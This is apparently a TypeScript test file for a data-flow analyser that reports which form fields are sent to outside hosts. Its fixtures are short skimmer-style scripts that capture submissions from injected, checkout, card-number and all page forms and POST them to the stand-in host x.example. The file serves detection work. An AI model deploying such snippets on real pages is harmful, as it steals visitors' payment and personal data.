import assert from 'node:assert/strict';
import { flowLines } from './analyse.ts';

const send = (data: string): string => `fetch('https://x.example/',{method:'POST',body:${data}})`;

const cases: Record<string, [string, string[]]> = {
  'a form that the script brings': [
    `var b=document.createElement('div');b.innerHTML='<form><input name="email" type="email"><textarea name="text"></textarea><button>Send</button></form>';document.body.append(b);b.querySelector('form').onsubmit=function(e){e.preventDefault();${send('new FormData(e.target)')}}`,
    ['email, text > plain > fetch x.example'],
  ],
  'one found again by its id': [
    `document.body.insertAdjacentHTML('beforeend','<form id="nps"><input type="range" name="score"></form>');document.getElementById('nps').addEventListener('submit',function(){${send('new FormData(this)')}})`,
    ['score > plain > fetch x.example'],
  ],
  'one that jQuery makes': [
    `jQuery(function($){var p=$('<div><form><input type="email" name="EMAIL"></form></div>').appendTo('body');p.on('submit','form',function(){$.post('https://x.example/',$(this).serialize())})})`,
    ['EMAIL > plain > jquery-ajax x.example'],
  ],
  'one of an element of its own': [
    `class R extends HTMLElement{connectedCallback(){this.innerHTML='<form><input name="title"></form>';this.firstChild.addEventListener('submit',e=>{${send('new FormData(e.target)')}})}}customElements.define('r-f',R)`,
    ['title > plain > fetch x.example'],
  ],
  'one that asks for a card': [
    `var b=document.createElement('div');b.innerHTML='<form><label>Card number<input name="a"></label></form>';document.body.append(b);b.querySelector('form').onsubmit=function(e){${send('new FormData(e.target)')}}`,
    ['* > plain > fetch x.example'],
  ],
  'one filled with what the page shows': [
    `var b=document.createElement('div');b.innerHTML='<form><input name="q"></form>'+document.forms[0].innerHTML;b.querySelector('form').onsubmit=function(e){${send('new FormData(e.target)')}}`,
    ['* > plain > fetch x.example'],
  ],
  'one whose inputs are made one by one': [
    `var i=document.createElement('input'),b=document.createElement('div');b.innerHTML='<form><input name="q"></form>';b.append(i);b.querySelector('form').onsubmit=function(e){${send('new FormData(e.target)')}}`,
    ['* > plain > fetch x.example'],
  ],
  'the page around what the script made': [
    `var s=document.createElement('div');s.innerHTML='<input name="q">';document.forms[0].append(s);s.parentNode.addEventListener('submit',function(){var o={};s.parentNode.querySelectorAll('input').forEach(function(i){o[i.name]=i.value});${send('JSON.stringify(o)')}})`,
    ['* > json > fetch x.example'],
  ],
  'a form that says what it is for': [
    `document.querySelector('form#newsletter').addEventListener('submit',function(e){${send('new FormData(this)')}})`,
    ['form#newsletter > plain > fetch x.example'],
  ],
  'the inputs of such a form': [
    `var f=document.querySelector('form.lead'),o={};f.querySelectorAll('input').forEach(function(i){o[i.name]=i.value});${send('JSON.stringify(o)')}`,
    ['form.lead > json > fetch x.example'],
  ],
  'such a form, listened to from above': [
    `jQuery(function($){$(document).on('submit','.contact-form',function(e){$.post('https://x.example/',$(e.target).serialize())})})`,
    ['.contact-form > plain > jquery-ajax x.example'],
  ],
  'a form of the shop': [
    `document.querySelector('form.checkout').addEventListener('submit',function(e){${send('new FormData(this)')}})`,
    ['* > plain > fetch x.example'],
  ],
  'a form of the shop that takes a name for another': [
    `document.querySelector('form#contact-checkout').addEventListener('submit',function(e){${send('new FormData(this)')}})`,
    ['* > plain > fetch x.example'],
  ],
  'every form of the page': [
    `document.querySelectorAll('form').forEach(function(f){f.addEventListener('submit',function(e){${send('new FormData(f)')}})})`,
    ['* > plain > fetch x.example'],
  ],
  'the first field for a telephone': [
    send("document.querySelector('input[type=tel]').value"),
    ['input[type=tel] > plain > fetch x.example'],
  ],
  'all fields for telephones, or cards': [
    `document.querySelectorAll('input[type=tel]').forEach(function(i){${send('i.value')}})`,
    ['* > plain > fetch x.example'],
  ],
};

describe('what forms can hold', () => {
  for (const [name, [text, expected]] of Object.entries(cases))
    it(name, () => {
      assert.deepEqual(flowLines(text), expected);
    });
});
